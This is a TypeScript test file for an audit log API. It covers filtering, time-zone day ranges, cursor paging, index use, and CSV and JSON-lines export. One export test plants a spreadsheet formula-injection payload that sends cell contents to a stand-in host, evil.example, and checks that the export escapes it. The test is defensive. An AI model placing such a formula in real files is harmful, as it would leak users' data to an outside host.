import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { startTestApp, type TestApp, type TestOrganization, type TestUser } from '../../../test/harness.ts';
import { createInvitation } from '../invitations/contract.ts';
import { updateOrganization } from '../organizations/contract.ts';
import { createTeam } from '../teams/contract.ts';
import { exportAuditEventLines, exportAuditEvents, listAuditEvents } from './contract.ts';

let app: TestApp;
let org: TestOrganization;
let other: TestUser;
beforeAll(async () => {
  app = await startTestApp();
  org = await app.organization();
  other = await app.admin(org);
  // Kiritimati is 14 hours ahead of UTC: its days begin at 10:00 UTC of the day before.
  await app.call(org.admin, updateOrganization, { body: { time_zone: 'Pacific/Kiritimati' } });
});
afterAll(() => app?.close());

const list = async (query: Record<string, string | number>) => {
  const { status, body } = await app.call(org.admin, listAuditEvents, { query });
  expect(status).toBe(200);
  return body.items;
};
/** Writes an event as it would have been written at that time. */
const at = (instant: string, action = 'test.happened') =>
  app.db.many(
    `insert into audit_events (organization_id, id, at, actor_kind, action, target_kind)
     values ($1, gen_random_uuid(), $2, 'system', $3, 'organization')`,
    [org.id, instant, action],
  );

describe('the audit log', () => {
  test('is narrowed by who, what, and on whom', async () => {
    await app.call(other, createTeam, { body: { name: 'Quay' } });
    const invited = await app.call(org.admin, createInvitation, {
      body: { email: 'ana@people.example', first_name: 'Ana' },
    });
    expect((await list({ actor_id: other.id })).map((e) => e.action)).toContain('team.created');
    expect((await list({ actor_id: other.id })).every((e) => e.actor.id === other.id)).toBe(true);
    expect(await list({ actor_id: other.id, action: 'invitation.created' })).toEqual([]);
    const about = await list({ target_id: invited.body.user.id });
    expect(about.map((e) => e.action)).toContain('invitation.created');
    expect((await list({ actor_kind: 'system' })).every((e) => e.actor.kind === 'system')).toBe(true);
  });

  test('calls what left no row as it was called last', async () => {
    const about = (kind: string, id: string, field: string, before: string | null, after: string | null) =>
      app.db.many(
        `with event as (
           insert into audit_events (organization_id, id, actor_kind, action, target_kind, target_id)
           values ($1, gen_random_uuid(), 'system', 'test.named', $2, $3) returning id
         )
         insert into audit_values (organization_id, event_id, field, salt, before, after)
         select $1, id, $4, '\\x00', to_jsonb($5::text), to_jsonb($6::text) from event`,
        [org.id, kind, id, field, before, after],
      );
    const connection = '01a00000-0000-7000-8000-000000000001';
    const domain = '01a00000-0000-7000-8000-000000000002';
    await about('connection', connection, 'name', null, 'Harbor Entra');
    await about('connection', connection, 'state', 'on', 'off');
    await about('domain', domain, 'domain', 'harbor.example', null);
    // Of other kinds the log does not guess: a value called name may be anybody's.
    await about('user', '01a00000-0000-7000-8000-000000000003', 'name', null, 'Ana');
    const named = await list({ action: 'test.named' });
    expect(named.map(({ target }) => target.name).sort()).toEqual([
      'Harbor Entra',
      'Harbor Entra',
      'harbor.example',
      null,
    ]);
  });

  test('goes by days of the time zone of the organization, both included', async () => {
    for (const instant of [
      '2026-03-09T09:59:59.999Z',
      '2026-03-09T10:00:00Z',
      '2026-03-11T09:59:59.999Z',
      '2026-03-11T10:00:00Z',
    ])
      await at(instant);
    const found = await list({ action: 'test.happened', from: '2026-03-10', to: '2026-03-11' });
    expect(found.map((e) => e.at)).toEqual(['2026-03-11T09:59:59.999Z', '2026-03-09T10:00:00.000Z']);
    expect(await list({ action: 'test.happened', to: '2026-03-09' })).toHaveLength(1);
    expect(await list({ action: 'test.happened', from: '2026-03-12' })).toHaveLength(1);
  });

  test('goes on where a page ended, also among events of the same moment', async () => {
    for (let n = 0; n < 7; n++) await at('2026-02-02T12:00:00.123456Z', 'test.same');
    const seen: string[] = [];
    let cursor: string | null | undefined;
    do {
      const query = { action: 'test.same', limit: 3, ...(cursor ? { cursor } : {}) };
      const { body } = await app.call(org.admin, listAuditEvents, { query });
      seen.push(...body.items.map((e) => e.id));
      cursor = body.next;
    } while (cursor);
    expect(seen).toHaveLength(7);
    expect(new Set(seen).size).toBe(7);
  });

  test.for([{ from: '2026-02-30' }, { to: 'yesterday' }, { from: '0000-01-01' }])(
    'refuses a day that there is not: %o',
    async (query) => {
      expect(await app.call(org.admin, listAuditEvents, { query })).toMatchObject({
        status: 400,
        problem: { code: 'request.invalid' },
      });
    },
  );

  test('answers each filter from an index, not by reading the log', async () => {
    await app.db.many(
      `insert into audit_events (organization_id, id, at, actor_kind, actor_user_id, action, target_kind, target_id)
       select $1, gen_random_uuid(), '2025-01-01'::timestamptz + n * interval '1 minute', 'user', gen_random_uuid(),
         case when n % 5000 = 0 then 'rare.done' else 'common.done' end, 'user', gen_random_uuid()
       from generate_series(1, 20000) n`,
      [org.id],
    );
    await app.db.many('analyze audit_events');
    const { auditEvents } = await import('./audit-queries.ts');
    const { sql } = await import('kysely');
    for (const filter of [
      {},
      { action: 'rare.done' },
      { actorId: other.id },
      { targetId: other.id },
      { from: '2025-01-02', to: '2025-01-02' },
    ]) {
      const query = auditEvents({ organizationId: org.id, ...filter }, undefined, 51);
      const plan = await app.db.compose(
        sql<{ 'QUERY PLAN': string }>`explain (analyze, timing off, summary off) ${query}`,
      );
      const text = plan.map((line) => line['QUERY PLAN']).join('\n');
      expect(text, JSON.stringify(filter)).not.toMatch(/Seq Scan on audit_events/);
      const removed = [...text.matchAll(/Rows Removed by Filter: (\d+)/g)].map((m) => Number(m[1]));
      expect(Math.max(0, ...removed), text).toBeLessThan(100);
    }
  });
});

describe('the export of the audit log', () => {
  const exported = async (body: Record<string, string>, by: TestUser = org.admin) =>
    (await app.call(by, exportAuditEvents, { body })).body;

  test('is a file that no spreadsheet takes for formulas, with what was before and after', async () => {
    const evil = '=HYPERLINK("https://evil.example?"&A1,"x")';
    await app.call(org.admin, updateOrganization, { body: { support_contact: evil } });
    await app.call(org.admin, updateOrganization, { body: { support_contact: 'say "hello", twice' } });
    const text = await exported({ action: 'organization.updated', actor_id: org.admin.id });
    expect(text.startsWith('\ufeff"at","event_id"')).toBe(true);
    expect(text).toContain(
      `"support_contact","'=HYPERLINK(""https://evil.example?""&A1,""x"")","say ""hello"", twice"\r\n`,
    );
    for (const value of text.matchAll(/(?<=^|,)"((?:[^"]|"")*)"/gm))
      expect(value[1]).not.toMatch(/^[=+\-@\t\r]/);
  });

  test('holds what the filter lets in and no other organization, however many pages it takes', async () => {
    await app.db.many(
      `insert into audit_events (organization_id, id, at, actor_kind, action, target_kind)
       select $1, gen_random_uuid(), '2024-05-05T12:00:00Z', 'system', 'test.many', 'organization'
       from generate_series(1, 2345)`,
      [org.id],
    );
    const other = await app.organization();
    await app.db.many(
      `insert into audit_events (organization_id, id, at, actor_kind, action, target_kind)
       values ($1, gen_random_uuid(), '2024-05-05T12:00:00Z', 'system', 'test.many', 'organization')`,
      [other.id],
    );
    const text = await exported({ from: '2024-05-01', to: '2024-05-31' });
    const ids = text
      .split('\r\n')
      .slice(1, -1)
      .map((line) => line.split(',')[1]);
    expect(ids).toHaveLength(2345);
    expect(new Set(ids).size).toBe(2345);
  });

  test('is for programs as well: an event a line, as the API shows it', async () => {
    await app
      .call(org.admin, updateOrganization, { body: { support_contact: 'first line\nsecond' } })
      .catch(() => {});
    const { body } = await app.call(org.admin, exportAuditEventLines, { body: { actor_id: org.admin.id } });
    const events = body
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as { id: string; action: string });
    expect(events[0]?.action).toBe('audit.exported');
    const shown = await list({ actor_id: org.admin.id, limit: 5 });
    expect(events.slice(0, 5)).toEqual(JSON.parse(JSON.stringify(shown)));
    expect(await app.call(org.admin, exportAuditEventLines, { body: { from: '2026-02-30' } })).toMatchObject({
      status: 400,
    });
  });

  test('is itself recorded, with its filter, and for Organization Admins only', async () => {
    await exported({ action: 'team.created' });
    const [event] = await list({ action: 'audit.exported', limit: 1 });
    expect(event).toMatchObject({ actor: { id: org.admin.id } });
    expect(event?.changes).toContainEqual({
      field: 'filters',
      before: null,
      after: { action: 'team.created' },
    });
    const teamAdmin = await app.teamAdmin(await app.team(org));
    const answer = await app.call(teamAdmin, exportAuditEvents, { body: {} });
    expect(answer.status).toBe(403);
    expect(await app.call(org.admin, exportAuditEvents, { body: { from: '2026-02-30' } })).toMatchObject({
      status: 400,
      problem: { errors: [{ pointer: '/from' }] },
    });
  });
});
